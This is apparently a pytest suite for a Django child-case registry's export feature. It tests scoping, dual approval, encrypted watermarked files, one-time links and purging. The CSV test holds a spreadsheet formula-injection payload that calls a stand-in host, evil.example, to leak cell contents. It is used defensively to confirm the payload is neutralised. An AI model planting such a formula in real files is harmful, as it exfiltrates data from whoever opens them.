"""Export use cases: scope of the content, four-eyes, the encrypted file, links, retention."""

import csv
import datetime
import io

import pytest
import time_machine
from django.core.exceptions import PermissionDenied, ValidationError
from django.utils import timezone

from homeward.audit.models import AuditEvent
from homeward.core.models import HomeState
from homeward.exports import events, services
from homeward.exports.choices import Dataset, ExportFormat, ExportState
from homeward.exports.exceptions import ExportStateError, LinkGone
from homeward.exports.models import ExportDownloadLink, ExportRequest
from homeward.people import services as people_services
from tests.exports.conftest import (
    FORMULA,
    approved,
    decrypt,
    formula_cells,
    request,
    xlsx_cells,
)

pytestmark = pytest.mark.django_db

EXPORT_EVENTS = list(events.LABELS)


def export_events(export=None) -> list[str]:
    rows = AuditEvent.objects.filter(event_type__in=EXPORT_EVENTS).order_by("seq")
    if export is not None:
        rows = rows.filter(object_id=str(export.pk))
    return list(rows.values_list("event_type", flat=True))


def canary(officer, state="RU"):
    """A child whose home-script name is a spreadsheet formula."""
    return people_services.register_child(
        actor=officer,
        fields={"sex": "male", "date_of_birth": datetime.date(2015, 1, 1), "dob_precision": "year"},
        names=[
            {"full_text": "يوسف القناري", "name_type": "prison_register", "is_primary": True},
            {"full_text": FORMULA, "name_type": "legal_home_state"},
            {"full_text": "@SUM(1+1)", "name_type": "alias"},
        ],
        home_state=HomeState.objects.get(code=state),
    )


# -- the request ----------------------------------------------------------------------------


def test_a_consuls_request_holds_only_its_states_children(users, registry):
    # given consul.ru, and Russian and Tajik children
    consul = users["consul.ru"]
    # when it asks for the children register
    export = request(consul)
    # then exactly the two Russian children are fixed, and the export waits for approval
    expected = sorted(
        [str(registry["ru_child"].pk), str(registry["ru_brother"].pk)],
        key=lambda pk: ExportRequest._meta.get_field("id").to_python(pk).hex,
    )
    assert sorted(export.record_ids) == sorted(expected)
    assert str(registry["tj_child"].pk) not in export.record_ids
    assert (export.row_count, export.state, export.needs_approval) == (2, "requested", True)
    assert list(export.home_states.values_list("code", flat=True)) == ["RU"]
    assert export.all_home_states is False
    event = AuditEvent.objects.get(event_type=events.EXPORT_REQUESTED)
    assert (event.actor, event.object_id, event.home_state) == (consul, str(export.pk), "RU")
    assert event.data["rows"] == 2
    assert event.data["purpose"] == "Prepare the list for the next Moscow flight"


def test_filters_narrow_the_rows(users, registry):
    officer = users["mfa.officer"]
    by_state = request(officer, home_state=HomeState.objects.get(code="TJ"))
    by_status = request(officer, status="CLOSED")
    assert by_state.record_ids == [str(registry["tj_child"].pk)]
    assert by_status.record_ids == []
    assert request(officer).all_home_states is True


def test_a_purpose_is_required_and_nothing_is_written_without_it(users, registry):
    before = (ExportRequest.objects.count(), AuditEvent.objects.count())
    with pytest.raises(ValidationError) as error:
        services.request_export(
            actor=users["mfa.officer"],
            dataset=Dataset.CHILDREN,
            file_format=ExportFormat.CSV,
            purpose_category="case_work",
            purpose="  ",
        )
    assert list(error.value.message_dict) == ["purpose"]
    assert (ExportRequest.objects.count(), AuditEvent.objects.count()) == before


def test_a_consul_cannot_filter_on_another_state(users, registry):
    with pytest.raises(ValidationError) as error:
        request(users["consul.ru"], home_state=HomeState.objects.get(code="TJ"))
    assert list(error.value.message_dict) == ["home_state"]
    assert ExportRequest.objects.count() == 0


@pytest.mark.parametrize("username", ["unicef.officer", "auditor", "hjc.judge"])
def test_roles_without_the_grant_cannot_request(users, registry, username):
    with pytest.raises(PermissionDenied):
        request(users[username])
    assert ExportRequest.objects.count() == 0
    assert export_events() == []


def test_at_or_below_the_threshold_the_export_is_approved_automatically(users, registry, settings):
    # given a threshold of 2 rows
    settings.HOMEWARD_EXPORT_APPROVAL_THRESHOLD = 2
    # when consul.ru asks for its 2 children, and the officer for all 3
    small = request(users["consul.ru"])
    large = request(users["mfa.officer"])
    # then the small one is approved with no approver, the large one waits
    assert (small.state, small.needs_approval, small.decided_by) == ("approved", False, None)
    assert export_events(small) == [events.EXPORT_REQUESTED, events.EXPORT_APPROVED]
    automatic = AuditEvent.objects.get(event_type=events.EXPORT_APPROVED, object_id=str(small.pk))
    assert automatic.data == {"automatic": True, "rows": 2, "threshold": 2}
    assert (large.state, large.needs_approval) == ("requested", True)


def test_by_default_every_export_with_a_row_needs_approval(users, registry):
    assert request(users["consul.ru"]).state == "requested"
    assert request(users["mfa.officer"], status="CLOSED").state == "approved"  # 0 rows


# -- four-eyes ------------------------------------------------------------------------------


def test_self_approval_is_refused_and_changes_nothing(users, registry, supervisors):
    # given an export requested by a supervisor, who holds the approval grant
    supervisor = supervisors["first"]
    export = request(supervisor)
    before = export_events()
    # when the supervisor approves or refuses it
    for decide in (services.approve_export, services.reject_export):
        with pytest.raises(PermissionDenied):
            decide(export, actor=supervisor, note="mine")
    # then it is still waiting, and no decision was recorded
    export.refresh_from_db()
    assert (export.state, export.decided_by, export.decided_at) == ("requested", None, None)
    assert export_events() == before


def test_another_supervisor_approves(users, registry, supervisors):
    export = request(users["consul.ru"])
    services.approve_export(export, actor=supervisors["first"], note="For the flight")
    export.refresh_from_db()
    assert (export.state, export.decided_by) == ("approved", supervisors["first"])
    event = AuditEvent.objects.get(event_type=events.EXPORT_APPROVED)
    assert event.actor == supervisors["first"]
    assert event.data == {"requester": "consul.ru", "rows": 2, "note": "For the flight"}


def test_an_officer_without_the_grant_cannot_approve(users, registry):
    export = request(users["consul.ru"])
    with pytest.raises(PermissionDenied):
        services.approve_export(export, actor=users["mfa.officer"])
    export.refresh_from_db()
    assert export.state == "requested"


def test_an_approver_limited_to_russia_decides_only_russian_exports(users, registry, supervisors):
    ru_only = supervisors["ru_only"]
    everything = request(users["mfa.officer"])
    russian = request(users["consul.ru"])
    tajik = request(users["consul.tj"])
    assert set(ExportRequest.objects.for_user(ru_only, "approve")) == {russian}
    for export in (everything, tajik):
        with pytest.raises(PermissionDenied):
            services.approve_export(export, actor=ru_only)
    services.approve_export(russian, actor=ru_only)
    assert ExportRequest.objects.get(pk=russian.pk).state == "approved"


def test_a_second_decision_finds_the_export_decided(users, registry, supervisors):
    # given an export approved by one supervisor (the race, played serially)
    export = request(users["consul.ru"])
    services.approve_export(export, actor=supervisors["first"])
    # when the second approves or refuses from the same stale page
    with pytest.raises(ExportStateError):
        services.approve_export(export, actor=supervisors["second"])
    with pytest.raises(ExportStateError):
        services.reject_export(export, actor=supervisors["second"], note="no")
    # then exactly one decision exists
    export.refresh_from_db()
    assert (export.state, export.decided_by) == ("approved", supervisors["first"])
    assert export_events(export).count(events.EXPORT_APPROVED) == 1
    assert events.EXPORT_REJECTED not in export_events(export)


def test_a_refusal_needs_a_reason_and_ends_the_export(users, registry, supervisors):
    export = request(users["consul.ru"])
    with pytest.raises(ValidationError):
        services.reject_export(export, actor=supervisors["first"], note=" ")
    services.reject_export(export, actor=supervisors["first"], note="Not needed")
    export.refresh_from_db()
    assert (export.state, export.decision_note) == ("rejected", "Not needed")
    with pytest.raises(ExportStateError):
        services.generate_export(export, actor=users["consul.ru"])


def test_an_unapproved_export_cannot_be_generated(users, registry):
    export = request(users["consul.ru"])
    with pytest.raises(ExportStateError):
        services.generate_export(export, actor=users["consul.ru"])
    assert ExportRequest.objects.get(pk=export.pk).storage_key == ""


# -- the file -------------------------------------------------------------------------------


def plaintext_of(export) -> bytes:
    """The file's content before encryption (the encryption itself is tested once, below)."""
    data, _rows = services.build_plaintext(export, created=timezone.now())
    return data


def test_the_xlsx_is_encrypted_watermarked_formula_safe_and_in_scope(
    users, registry, supervisors, settings
):
    # given a Russian canary child whose names are formulas, and an approved consul export
    officer, consul = users["mfa.officer"], users["consul.ru"]
    child = canary(officer)
    export = approved(consul, supervisors["first"])
    # when the consul prepares the file
    prepared = services.generate_export(export, actor=consul)
    export.refresh_from_db()
    # then only ciphertext is stored, under a random name in the private exports directory
    raw = export.path.read_bytes()
    assert str(export.path).startswith(str(settings.HOMEWARD_EXPORTS_DIR))
    assert export.storage_key not in {"", str(export.pk)} and len(export.storage_key) == 32
    assert raw.startswith(b"age-encryption.org/v1\n-> scrypt ")
    for needle in (child.case.reference, "يوسف", "HYPERLINK", "CONFIDENTIAL", str(export.pk)):
        assert needle.encode() not in raw
    # and it opens only with the one-time passphrase
    with pytest.raises(Exception):  # noqa: B017  (pyrage raises its own DecryptError)
        decrypt(raw, "wrong-passphrase")
    plaintext = decrypt(raw, prepared.passphrase)
    sheets = xlsx_cells(plaintext)
    # and no cell is a formula; formula-looking names are prefixed text
    assert formula_cells(plaintext) == []
    data = sheets["Data"]
    rows = {row[0]: row for row in data[2:]}
    assert rows[child.case.reference][2] == "'" + FORMULA
    # and it holds the consul's children only: the canary and the two of the registry
    assert sorted(rows) == sorted(
        [
            child.case.reference,
            registry["ru_child"].case.reference,
            registry["ru_brother"].case.reference,
        ]
    )
    assert registry["tj_child"].case.reference not in str(sheets)
    assert "فاطمة رحيموفا" not in str(sheets)
    # and it is watermarked: notice sheet first, first data row, workbook properties
    assert list(sheets) == ["Notice", "Data"]
    mark = data[0][0]
    assert "CONFIDENTIAL" in mark and str(export.pk) in mark and "consul.ru" in mark
    assert sheets["Notice"][0] == ["CONFIDENTIAL"]
    assert sheets["Notice"][1] == [mark]
    assert data[1] == [
        "Case reference",
        "Name (Arabic script)",
        "Name (home-state script)",
        "Sex",
        "Date or year of birth",
        "Home state",
        "Case status",
        "Current facility",
        "Mother",
        "Mother's record id",
    ]
    assert (export.state, export.size, len(export.sha256)) == ("generated", len(raw), 64)
    assert export_events(export)[-2:] == [events.EXPORT_GENERATED, events.EXPORT_LINK_ISSUED]
    generated = AuditEvent.objects.get(event_type=events.EXPORT_GENERATED)
    assert generated.data["rows"] == 3
    assert sorted(generated.data["ids"]) == sorted(export.record_ids)


def test_children_columns_hold_the_registry_values_and_no_sealed_data(
    users, registry, supervisors, prison
):
    officer = users["mfa.officer"]
    export = approved(officer, supervisors["first"], file_format=ExportFormat.CSV)
    text = plaintext_of(export).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    by_reference = {row[0]: row for row in rows[2:]}
    child, mother = registry["ru_child"], registry["ru_mother"]
    assert by_reference[child.case.reference] == [
        child.case.reference,
        "خديجة حسينوفا",
        "",
        "Female",
        "2016-03-01",
        "RU",
        "Registered",
        prison.name,
        "زلفية حسينوفا",
        str(mother.pk),
    ]
    assert len(rows) == 2 + 3
    # the mother's sentence (a sealed criminal record) is not in the file
    assert "sentenced" not in text.lower()


def test_the_csv_follows_rfc_4180_and_neutralises_formulas(users, registry, supervisors):
    officer = users["mfa.officer"]
    child = canary(officer)
    export = approved(officer, supervisors["first"], file_format=ExportFormat.CSV)
    text = plaintext_of(export).decode("utf-8-sig")
    # every record ends in CRLF, and the quoted formula keeps its embedded quotes doubled
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert rows[0][0].startswith("CONFIDENTIAL") and str(export.pk) in rows[0][0]
    row = next(row for row in rows if row[0] == child.case.reference)
    assert row[2] == "'" + FORMULA
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_the_case_progress_dataset(users, registry, supervisors):
    consul = users["consul.tj"]
    export = approved(consul, supervisors["first"], dataset=Dataset.CASE_PROGRESS)
    sheets = xlsx_cells(plaintext_of(export))
    case = registry["tj_child"].case
    assert sheets["Data"][1:] == [
        ["Case reference", "Home state", "Case status", "Status since", "Opened", "Closed"],
        [
            case.reference,
            "TJ",
            "Registered",
            case.status_changed_at.date().isoformat(),
            case.opened_at.date().isoformat(),
            None,
        ],
    ]


def test_a_child_moved_out_of_scope_after_approval_is_not_exported(users, registry, supervisors):
    # given an approved consul.ru export holding the Russian brother
    consul = users["consul.ru"]
    export = approved(consul, supervisors["first"], file_format=ExportFormat.CSV)
    brother = registry["ru_brother"]
    # when the brother's case moves to Tajikistan before the file is made
    type(brother.case).objects.filter(pk=brother.case.pk).update(home_state_id="TJ")
    prepared = services.generate_export(export, actor=consul)
    export.refresh_from_db()
    text = decrypt(export.path.read_bytes(), prepared.passphrase).decode("utf-8-sig")
    # then the file holds only what the consul may still see
    assert brother.case.reference not in text
    assert registry["ru_child"].case.reference in text
    assert AuditEvent.objects.get(event_type=events.EXPORT_GENERATED).data["rows"] == 1


def test_only_the_requester_prepares_the_file(users, registry, supervisors):
    export = approved(users["consul.ru"], supervisors["first"])
    with pytest.raises(PermissionDenied):
        services.generate_export(export, actor=supervisors["first"])
    assert ExportRequest.objects.get(pk=export.pk).state == "approved"


# -- links and downloads --------------------------------------------------------------------


def _ready(users, supervisors):
    consul = users["consul.ru"]
    export = approved(consul, supervisors["first"], file_format=ExportFormat.CSV)
    return consul, services.generate_export(export, actor=consul)


def test_a_link_works_once(users, registry, supervisors):
    consul, prepared = _ready(users, supervisors)
    link = services.find_link(prepared.token, actor=consul)
    export, data = services.consume_download_link(link, actor=consul)
    assert data == export.path.read_bytes()
    assert (export.state, export.downloaded_at is not None) == ("downloaded", True)
    with pytest.raises(LinkGone):
        services.consume_download_link(link, actor=consul)
    assert export_events(export).count(events.EXPORT_DOWNLOADED) == 1


def test_a_link_expires_after_ten_minutes(users, registry, supervisors):
    consul, prepared = _ready(users, supervisors)
    link = services.find_link(prepared.token, actor=consul)
    assert link.expires_at - link.issued_at == datetime.timedelta(minutes=10)
    with (
        time_machine.travel(link.expires_at + datetime.timedelta(seconds=1)),
        pytest.raises(LinkGone),
    ):
        services.consume_download_link(link, actor=consul)
    assert ExportRequest.objects.get(pk=prepared.export.pk).state == "generated"
    assert ExportDownloadLink.objects.get(pk=link.pk).used_at is None


def test_a_new_link_after_the_first_was_used(users, registry, supervisors):
    consul, prepared = _ready(users, supervisors)
    services.consume_download_link(services.find_link(prepared.token, actor=consul), actor=consul)
    token, _expires = services.issue_download_link(prepared.export, actor=consul)
    _export, data = services.consume_download_link(
        services.find_link(token, actor=consul), actor=consul
    )
    assert decrypt(data, prepared.passphrase).startswith("\ufeff".encode())


def test_someone_elses_token_is_not_found(users, registry, supervisors):
    _consul, prepared = _ready(users, supervisors)
    assert services.find_link(prepared.token, actor=supervisors["first"]) is None
    assert services.find_link("not-a-token", actor=users["consul.ru"]) is None


# -- the end --------------------------------------------------------------------------------


def test_delete_removes_the_file_and_kills_the_links(users, registry, supervisors):
    consul, prepared = _ready(users, supervisors)
    export = ExportRequest.objects.get(pk=prepared.export.pk)
    path = export.path
    services.delete_export(export, actor=consul)
    export.refresh_from_db()
    assert not path.exists()
    assert (export.state, export.storage_key) == ("deleted", "")
    with pytest.raises(LinkGone):
        services.consume_download_link(
            services.find_link(prepared.token, actor=consul), actor=consul
        )
    assert export_events(export)[-1] == events.EXPORT_DELETED


def test_purge_deletes_files_older_than_the_keep_days(users, registry, supervisors):
    # given a prepared export, and one requested six days later
    _consul, prepared = _ready(users, supervisors)
    path = ExportRequest.objects.get(pk=prepared.export.pk).path
    with time_machine.travel(timezone.now() + datetime.timedelta(days=6)):
        younger = request(users["mfa.officer"])
    # when the purge runs just before, then just after, seven days
    soon = services.purge_expired_exports(
        prepared.export.generated_at + datetime.timedelta(days=7, seconds=-1)
    )
    later = services.purge_expired_exports(
        prepared.export.generated_at + datetime.timedelta(days=7, seconds=1)
    )
    # then only the old export ends: its file is gone, one event with ids only
    assert (soon, later) == ([], [str(prepared.export.pk)])
    assert not path.exists()
    export = ExportRequest.objects.get(pk=prepared.export.pk)
    assert (export.state, export.storage_key) == (ExportState.EXPIRED, "")
    assert ExportRequest.objects.get(pk=younger.pk).state == "requested"
    expired = AuditEvent.objects.get(event_type=events.EXPORT_EXPIRED)
    assert (expired.actor, expired.object_id) == (None, str(export.pk))
    assert expired.data == {"previous_state": "generated", "had_file": True}
    # and a second run finds nothing more
    assert (
        services.purge_expired_exports(prepared.export.generated_at + datetime.timedelta(days=8))
        == []
    )


def test_purge_command(users, registry, supervisors, settings):
    from django.core.management import call_command

    _consul, prepared = _ready(users, supervisors)
    out = io.StringIO()
    with time_machine.travel(timezone.now() + datetime.timedelta(days=8)):
        call_command("purge_exports", stdout=out)
    assert out.getvalue().strip() == "1 export(s) expired."
    assert ExportRequest.objects.get(pk=prepared.export.pk).state == "expired"
